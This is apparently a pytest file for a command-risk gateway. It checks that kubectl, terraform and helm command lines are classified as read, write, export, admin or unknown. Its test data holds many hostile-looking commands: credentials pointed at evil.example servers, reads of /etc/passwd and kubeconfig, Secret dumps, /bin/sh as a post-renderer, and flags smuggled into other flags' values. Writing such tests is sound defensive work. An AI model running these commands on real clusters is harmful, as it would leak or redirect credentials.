"""Issue 15 items 2 and 3: built-in tools are parsed the way the tools parse them.

Attached short values (`-sURL`), resource lists and case, `--raw` paths and manifests
in any YAML or JSON form are normalised before rules match; flags that point the
gateway's credentials elsewhere or write files are admin; commands that print
credentials are exports or admin; a flag the gateway does not know is `unknown`.
"""

from __future__ import annotations

import json
import shlex

import pytest

from phigate.connectors._argv_rules import BUILTIN_RULE_SETS, ArgvRuleSet, classify_argv
from phigate.connectors.rule_settings import ArgvRule
from phigate.core.risk import RiskClass

R, W, E, P, A, U = (
    RiskClass.READ,
    RiskClass.WRITE,
    RiskClass.EXPORT,
    RiskClass.PRIVILEGE,
    RiskClass.ADMIN,
    RiskClass.UNKNOWN,
)
SETS = list(BUILTIN_RULE_SETS.values())

ELSEWHERE = [
    # Item 2: every way of naming another server, CA, identity or kubeconfig entry.
    ("kubectl -shttps://evil.example get pods", A),
    ("kubectl -s=https://evil.example get pods", A),
    ("kubectl -s https://evil.example get pods", A),
    ("kubectl get pods --server=https://evil.example", A),
    ("kubectl get pods --server https://evil.example", A),
    ("kubectl --certificate-authority=/tmp/ca.pem get pods", A),
    ("kubectl --context=other get pods", A),
    ("kubectl get pods --cluster other", A),
    ("kubectl --user=admin get pods", A),
    ("kubectl --tls-server-name=evil get pods", A),
    ("kubectl --insecure-skip-tls-verify get pods", A),
    ("kubectl --cache-dir=/tmp/x get pods", A),
    ("kubectl -v=9 get pods", A),
    ("kubectl -v9 get pods", A),
    ("kubectl --v=8 get pods", A),
    ("kubectl get pods -v 6", A),
    ("kubectl -v=2 get pods", R),
    ("kubectl -v=nine get pods", U),
    ("kubectl -v=\u00b2 get pods", U),  # a digit to str.isdigit, not to int
    ("kubectl -v=\u0669 get pods", U),  # an Arabic-Indic nine: int reads it, kubectl does not
    ("kubectl --profile=cpu --profile-output=/tmp/p get pods", A),
    ("kubectl get pods -o jsonpath-file=/etc/phigate/kubeconfig", A),
    ("kubectl get pods --template=x -o go-template-file=/etc/passwd", A),
    ("kubectl --as=admin get pods", P),
    ("kubectl --insecure-skip-tls-verify=false get pods", R),
    # Attached and clustered short flags read as pflag reads them.
    ("kubectl -nprod get pods", R),
    ("kubectl -n=prod get pods", R),
    ("kubectl get -Aw pods", R),
    ("kubectl create -n rolebinding deployment x --image=nginx", W),
    # Flags the gateway does not know, wherever they stand.
    ("kubectl get pods --frobnicate", U),
    ("kubectl get pods -Z", U),
    ("kubectl get pods --vmodule=x=9", U),
    ("kubectl --log-file=/tmp/log get pods", U),
    ("kubectl apply -k ./overlay", U),
    ("kubectl logs api-1 --raw=/api", U),  # --raw belongs to get, not logs
    ("kubectl get pods -o", U),  # a value flag with no value
]

CREDENTIALS = [
    # Item 3: reads that print credentials.
    ("kubectl config view", R),
    ("kubectl config view --minify -o yaml", R),
    ("kubectl config view --raw", A),
    ("kubectl config view --flatten", A),
    ("kubectl config view --raw=false", R),
    ("kubectl config view -o json", R),
    ("kubectl config view -o jsonpath={.users[0].user.token}", A),
    ('kubectl config view -o go-template={{printf "%x" .}}', A),
    ("kubectl get secrets", E),
    ("kubectl get Secrets", E),
    ("kubectl get SECRET db-pass -o yaml", E),
    ("kubectl get pods,secrets", E),
    ("kubectl get pods,Secret.v1", E),
    ("kubectl get secret/db-pass", E),
    ("kubectl get pod/api-1,secret/db-pass", E),
    ("kubectl get secrets.v1.", E),
    ("kubectl get po,svc", R),
    ("kubectl get pods,", U),
    ("kubectl get --raw /api/v1/namespaces/default/secrets", E),
    ("kubectl get --raw=/api/v1/secrets?limit=1", E),
    ("kubectl get --raw /api/v1/namespaces/default/secrets/db-pass", E),
    ("kubectl get --raw /api/v1/namespaces/default/pods", R),
    ("kubectl get --raw /apis/apps/v1/namespaces/default/deployments/api/status", R),
    ("kubectl get --raw /healthz", R),
    ("kubectl get --raw /api/v1/namespaces/default/services/db:5432/proxy/", A),
    ("kubectl get --raw /api/v1/namespaces/default/pods/api-1/exec?command=sh", A),
    ("kubectl get --raw /api/v1/namespaces/default/%73ecrets", U),
    ("kubectl get --raw /api/v1/namespaces/default/pods/x/ephemeralcontainers", U),
    ("kubectl get --raw /debug/pprof", U),
    ("kubectl create secret generic x --from-file=/etc/phigate/kubeconfig", A),
    ("kubectl create secret generic x --from-literal=a=b", W),
    ("kubectl kustomize https://example.org/repo", A),
    ("kubectl run api --image=nginx --restart=Never", W),
    ("kubectl run api --image=nginx --overrides={}", A),
    ("kubectl set env deploy/api -e A=1", W),
    ("kubectl set env deploy/api --from=secret/db --list --resolve", E),
    ("kubectl cluster-info dump --output-directory=/tmp/dump", A),
    ("terraform show", R),
    ("terraform show -json", E),
    ("terraform show --json", E),
    ("terraform show tfplan", E),
    ("terraform output", R),
    ("terraform output -json", E),
    ("terraform output -raw db_password", E),
    ("terraform output db_password", E),
    ("terraform plan", R),
    ("terraform plan -out=tfplan", A),
    ("terraform plan -out tfplan", A),
    ("terraform plan --out=tfplan", A),
    ("terraform plan -var-file=prod.tfvars -var region=eu", R),
    ("terraform plan -var-file=/etc/phigate/kubeconfig", A),
    ("terraform plan -var-file ../secrets.tfvars", A),
    ("terraform -chdir=infra plan", R),
    ("terraform -chdir=/ plan", A),
    ("terraform -chdir=../other plan", A),
    ("terraform -chdir infra apply", U),
    ("terraform plan -wat", U),
    ("terraform state list -state=/tmp/other.tfstate", A),
    ("helm template api ./chart", R),
    ("helm template api ./chart --post-renderer /bin/sh", A),
    ("helm template api ./chart --post-renderer=/bin/sh", A),
    ("helm template api ./chart --output-dir /tmp/x", A),
    ("helm template api ./chart -f /etc/phigate/values.yaml", A),
    ("helm template api ./chart -f values.yaml --set a=b", R),
    ("helm template api ./chart --set-file a=/etc/passwd", A),
    # round 21c finding 1: a render that contacts the cluster runs the chart's lookups
    ("helm template api ./chart --dry-run", R),
    ("helm template api ./chart --dry-run=client", R),
    ("helm template api ./chart --dry-run=true", R),
    ("helm template api ./chart --dry-run=server", E),
    ("helm template api ./chart --dry-run=Server", E),
    ("helm template api ./chart --dry-run=none", E),
    ("helm template api ./chart --dry-run=false", E),
    ("helm template api ./chart --dry-run=", E),
    ("helm template api ./chart --validate", E),
    ("helm template api ./chart --validate=true", E),
    ("helm template api ./chart --validate=false", R),
    ("helm install api ./chart --dry-run", W),
    ("helm install api ./chart --dry-run=server", E),
    ("helm upgrade api ./chart --dry-run", E),
    ("helm upgrade api ./chart --dry-run=client", E),
    ("helm rollback api 2 --dry-run", W),
    ("helm install api oci://evil.example/charts/api", A),
    ("helm template api https://evil.example/api-1.0.tgz", A),
    ("helm template api /etc/phigate", A),
    ("helm show values ../other/chart", A),
    ("helm install api ./chart -n prod", W),
    ("helm get values api", E),
    ("helm get manifest api", E),
    ("helm get all api", E),
    ("helm get notes api", R),
    ("helm list -A", R),
    ("helm list --wat", U),
    ("helm --kube-apiserver=https://evil.example list", A),
    ("helm --kube-token=x list", A),
]

# Round 3, findings 1 and 4: every TYPE/NAME argument and every level of a command tree.
EVERY_WORD = [
    ("kubectl get pod/api-1 secret/db-pass -o yaml", E),
    ("kubectl get deploy/api Secret.v1/db", E),
    ("kubectl delete pod/a clusterrolebinding/x", W),
    ("kubectl get pods api-1 api-2", R),
    ("kubectl get pod/api-1 pods", U),  # kubectl refuses the mix; so does the gateway
    ("kubectl get pod/a/b", U),
    ("kubectl get pod/", U),
    ("kubectl label pod/api-1 example.com/tier=web", W),
    ("kubectl label pods api-1 tier-", W),
    ("kubectl create sa robot", U),  # an alias: not the parent's class
    ("kubectl config frobnicate", U),
    ("kubectl rollout frobnicate deploy/api", U),
    ("kubectl create secret opaque x", U),
    ("terraform providers", R),
    ("terraform providers schema -json", R),
    ("terraform providers lock", W),
    ("terraform providers lock -fs-mirror=/tmp/m", A),
    ("terraform providers mirror /tmp/x", A),
    ("terraform providers frobnicate", U),
    ("terraform state frobnicate", U),
    ("terraform metadata functions -json", R),
    ("helm get secrets api", U),
    ("helm show crds ./chart", R),
]

# Round 18b findings 1, 2 and 5: a command prints the objects it names once given an
# output format, whatever its verb; helm's release in JSON/YAML is its values and
# manifests; the API server's `/watch/` prefix reads what follows it.
PRINTED = [
    ("kubectl wait --for=create secret/db-pass -o yaml", E),
    ("kubectl wait --for=delete secrets --all --output=json", E),
    ("kubectl wait --for=create secret/db-pass -o jsonpath={.data}", E),
    ("kubectl wait --for=create secret/db-pass --template={{.data}}", U),  # not wait's
    ("kubectl wait --for=create secret/db-pass -o name", R),
    ("kubectl wait --for=create secret/db-pass", R),
    ("kubectl wait --for=condition=Ready pod/api-1 -o yaml", R),
    # Round 21c finding 2: a command testing a Secret's content against a guess is an
    # oracle on it (exit code or `***` diff), whatever it prints.
    ("kubectl wait secret/db-pass --for=jsonpath={.data.password}=Z3Vlc3M=", E),
    ("kubectl wait secret/db-pass --for jsonpath={.data.password}=Z3Vlc3M=", E),
    ("kubectl wait Secrets --all --for=condition=Ready", E),
    ("kubectl wait pod/api-1,secret/db-pass --for=jsonpath={.data.k}=x", E),
    ("kubectl wait secret/db-pass --for=Delete", R),
    ("kubectl wait pod/api-1 --for=jsonpath={.status.phase}=Running", R),
    ("kubectl wait --for=jsonpath={.status.phase}=Running pods --all", R),
    ("kubectl describe secrets --field-selector=type=kubernetes.io/tls", E),
    ("kubectl delete secrets --field-selector=metadata.name=db-pass", E),
    ("kubectl describe pods --field-selector=status.phase=Running", R),
    ("kubectl describe secrets", R),
    ("kubectl label secret db-pass tier=web -o yaml", E),
    ("kubectl annotate secrets/db-pass a=b --output=json", E),
    ("kubectl label secret db-pass tier=web", W),
    ("kubectl label secret db-pass tier=web -o name", W),
    ("kubectl get --raw /api/v1/watch/secrets", E),
    ("kubectl get --raw /api/v1/watch/namespaces/default/secrets", E),
    ("kubectl get --raw /apis/apps/v1/watch/deployments", R),
    ("kubectl get --raw /api/v1/watch/namespaces/default/pods/api-1", R),
    ("kubectl get --raw /api/v1/watch", U),
    ("kubectl get --raw /api/v1/proxy/namespaces/default/services/db", U),
    ("helm status api", R),
    ("helm status api -o table", R),
    ("helm status api -o yaml", E),
    ("helm status api --output=json", E),
    ("helm status api -o=YAML", E),
    ("helm install api ./chart -o json", E),
    ("helm upgrade api ./chart --output yaml", E),
    ("helm history api -o json", R),
    ("helm list -o json", R),
    ("helm status api --debug", E),  # round 20b finding 1: values and manifests in a table
    ("helm --debug status api", E),
    ("helm list --debug", E),
]

# Round 32b finding 1: terraform's CLI library (mitchellh/cli) acts on its
# autocomplete words wherever they stand before `--`, even as another flag's value,
# and edits the gateway user's shell rc files; so the gateway, in every word.
SCANNED = [
    ("terraform plan -var -install-autocomplete", A),
    ("terraform plan -lock-timeout -install-autocomplete", A),
    ("terraform state list -id --uninstall-autocomplete", A),
    ("terraform plan -var=-install-autocomplete", A),
    ("terraform plan -var ---install-autocomplete=1", A),
    ("terraform plan -- -uninstall-autocomplete", A),  # after `--` too: fail closed
    ("terraform plan -install-autocomplete", U),  # not a flag of plan's
    ("terraform plan -var -help", R),  # help only prints
    ("terraform plan -var -version", R),
    ("terraform plan -var x=install-autocomplete", R),
]

# Round 32b finding 3: helm renders `--name-template` with sprig's whole function map,
# `env` and `expandenv` included: a template reads the gateway's environment.
TEMPLATES = [
    ("helm template chart --name-template '{{ env \"HELM_KUBETOKEN\" }}'", A),
    ("helm template chart --name-template='{{- expandenv \"$HOME\" -}}'", A),
    ("helm install chart --name-template x{{.}} -g", A),
    ("helm upgrade api chart -i --name-template={{", A),
    ("helm template chart --name-template api-1", R),
    ("helm template chart --name-template 'a{b}c'", R),
    ("helm template chart --set name={{env}}", R),  # values are not templates
    ("helm version --template {{.Version}}", R),  # text/template without sprig
    # helm first parses its whole argv with only its global flags, unknown ones let
    # through (a value starting with `-` is not taken), so a subcommand flag's value
    # written `--kube-apiserver=…` sets the global there.
    ("helm template chart --set --kube-apiserver=https://evil.example", U),
    ("helm template chart --description --kubeconfig=/tmp/k", U),
    ("helm template chart --set -n", U),
    ("helm template chart --set a=-1", R),  # attached: one word to both parses
    ("helm template chart -n --debug", R),  # a global's value: taken by both
]

# kubectl >= 1.33 scans its whole argv (before `--`) for `--kuberc`, its preferences
# file (aliases and default flags, `get` → `delete`), before its flags are parsed, so
# a flag's value written `--kuberc=…` is read too; the gateway, in every word.
KUBERC = [
    ("kubectl get pods --kuberc=/tmp/k", A),
    ("kubectl --kuberc /tmp/k get pods", A),
    ("kubectl get pods -l --kuberc=/tmp/k", A),
    ("kubectl get pods --field-selector --kuberc", A),
    ("kubectl get pods -l=--kuberc=/tmp/k", A),
    ("kubectl get pods -n --kuberc", A),
    ("kubectl exec web -c --kuberc=/tmp/k -- date", A),
    ("kubectl get pods -l app=kuberc", R),
    ("kubectl get pods -n kuberc", R),
]


@pytest.mark.parametrize(
    ("line", "risk"),
    ELSEWHERE + CREDENTIALS + EVERY_WORD + PRINTED + SCANNED + TEMPLATES + KUBERC,
)
def test_builtin_tools_are_parsed_as_the_tools_parse_them(line: str, risk: RiskClass) -> None:
    verdict = classify_argv(shlex.split(line), SETS)
    assert verdict.risk is risk, verdict.reasons


RBAC = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding"}
MANIFESTS = [
    ("apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\n", P),
    (json.dumps(RBAC), P),
    (json.dumps(RBAC, indent=2), P),
    ("{apiVersion: rbac.authorization.k8s.io/v1, kind: RoleBinding}", P),
    ("kind: 'Role'\n", P),
    ('"kind": "ClusterRole"\n', P),
    ("kind: Deployment\n---\nkind: ServiceAccount\n", P),
    (json.dumps({"kind": "List", "items": [{"kind": "Deployment"}, RBAC]}), P),
    ("kind: ValidatingWebhookConfiguration\n", A),
    ("apiVersion: apps/v1\nkind: Deployment\n", W),
    ("kind: [unclosed\n", U),
]


@pytest.mark.parametrize(("manifest", "risk"), MANIFESTS)
@pytest.mark.parametrize("flag", [["-f", "-"], ["--filename=-"], ["-f-"], ["-f=-"]])
def test_manifest_kinds_in_any_yaml_or_json_form(
    manifest: str, risk: RiskClass, flag: list[str]
) -> None:
    verdict = classify_argv(["kubectl", "apply", *flag], SETS, manifest)
    assert verdict.risk is risk, verdict.reasons


@pytest.mark.parametrize(
    "where",
    ["https://example.org/rbac.yaml", "/etc/phigate/rbac.yaml", "../rbac.yaml", "missing.yaml"],
)
def test_manifests_the_gateway_cannot_read_are_unknown(where: str) -> None:
    files = {"rbac.yaml": "kind: ClusterRoleBinding\n"}
    verdict = classify_argv(["kubectl", "apply", "-f", where], SETS, None, files.get)
    assert verdict.risk is U, verdict.reasons


def test_a_manifest_in_the_working_directory_is_classified_by_its_kinds() -> None:
    files = {
        "rbac.json": json.dumps(RBAC),
        "deploy.yaml": "kind: Deployment\n",
        "db.yaml": "kind: Secret\nmetadata: {name: db}\n",
    }
    argv = ["kubectl", "apply", "-f", "deploy.yaml"]
    assert classify_argv(argv, SETS, None, files.get).risk is W
    argv = ["kubectl", "apply", "-f", "deploy.yaml", "-f", "rbac.json"]
    assert classify_argv(argv, SETS, None, files.get).risk is P
    # Printing the objects a manifest names prints a Secret among them.
    for argv in (
        ["get", "-f", "db.yaml", "-o", "yaml"],
        ["describe", "-f", "db.yaml"],
        ["wait", "--for=create", "-f", "db.yaml", "-o", "yaml"],
        ["apply", "-f", "db.yaml", "-o", "json"],
        # testing it against a guess: an oracle on its data (round 21c finding 2)
        ["wait", "--for=jsonpath={.data.password}=x", "-f", "db.yaml"],
        ["diff", "-f", "db.yaml"],
    ):
        assert classify_argv(["kubectl", *argv], SETS, None, files.get).risk is E
    for argv in (["apply", "-f", "db.yaml"], ["apply", "-f", "db.yaml", "-o", "name"]):
        assert classify_argv(["kubectl", *argv], SETS, None, files.get).risk is W


@pytest.mark.parametrize(
    "line",
    [
        "kubectl describe secrets",
        "kubectl describe Secrets",
        "kubectl describe pods,secrets",
        "kubectl describe secret/db-pass",
        "kubectl describe --raw /x secrets",  # --raw is not describe's: unknown, never read
    ],
)
def test_the_documented_secret_rule_matches_every_spelling(line: str) -> None:
    own = ArgvRuleSet(
        name="own",
        rules=(ArgvRule(name="secrets", program="kubectl", args=("describe", "secret*"), risk=E),),
    )
    verdict = classify_argv(shlex.split(line), [own, *SETS])
    assert verdict.risk >= E, verdict.reasons


def test_a_connection_may_add_value_flags_to_a_builtin_tool() -> None:
    own = ArgvRuleSet(name="own", value_flags=frozenset({"--plugin-opt"}))
    argv = ["kubectl", "--plugin-opt", "x", "get", "pods"]
    assert classify_argv(argv, [own, *SETS]).risk is R
    assert classify_argv(argv, SETS).risk is U


def test_escalating_flags_are_named_in_the_reasons() -> None:
    verdict = classify_argv(["kubectl", "-shttps://evil.example", "get", "pods"], SETS)
    assert any("-shttps://evil.example" in r for r in verdict.reasons), verdict.reasons
